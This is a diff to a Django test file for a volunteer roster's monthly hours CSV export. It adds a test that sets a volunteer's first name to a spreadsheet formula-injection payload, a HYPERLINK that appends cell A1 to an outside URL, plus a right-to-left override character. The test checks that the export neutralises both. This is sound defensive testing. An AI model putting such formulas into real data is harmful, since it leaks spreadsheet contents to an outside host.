@@ -1,5 +1,7 @@
 """Signing in from the phone (from 30 minutes before), no-shows, and hours per month as CSV."""
 
+import csv
+import io
 from datetime import date, datetime, timedelta
 
 import pytest
@@ -78,7 +80,24 @@ def test_hours_per_volunteer_per_month_as_csv_for_the_coordinator_only(client, w
     response = client.get(url, {"maand": "2026-12"})
     lines = response.content.decode().splitlines()
     assert response["Content-Type"].startswith("text/csv")
-    assert lines[0] == "Voornaam,Achternaam,Uren" and lines[1].startswith("Anouk,") and lines[1].endswith('"3,00"')
+    # Semicolons, as a Dutch spreadsheet opens them; the decimal comma needs no quoting then.
+    assert lines[0] == "Voornaam;Achternaam;Uren" and lines[1].startswith("Anouk;") and lines[1].endswith(";3,00")
     assert client.get(url, {"maand": "december"}).status_code == 400
     client.force_login(world["anouk"])
     assert client.get(url, {"maand": "2026-12"}).status_code == 403
+
+
+def test_a_name_that_is_a_formula_comes_out_as_text_in_the_hours_export(client, world, dienst):
+    world["anouk"].first_name = '=HYPERLINK("https://example.com/?d="&A1;"klik")'
+    world["anouk"].last_name = "\u202eeilatI"  # right-to-left override: would read "Italie" reversed
+    world["anouk"].save()
+    a = inschrijving_maken(dienst_id=dienst.pk, user=world["anouk"])
+    world["clock"].set(BEGIN)
+    inschrijving_inchecken(inschrijving_id=a.pk, user=world["anouk"])
+    client.force_login(world["karin"])
+    content = client.get(reverse("rooster:uren_csv", args=[world["centrum"].pk]), {"maand": "2026-12"}).content.decode()
+    row = next(csv.reader(io.StringIO(content), delimiter=";"))  # header
+    rows = list(csv.reader(io.StringIO(content), delimiter=";"))[1:]
+    assert row == ["Voornaam", "Achternaam", "Uren"]
+    assert rows[0][0].startswith("'=HYPERLINK(")
+    assert "\u202e" not in content and rows[0][1] == "eilatI"
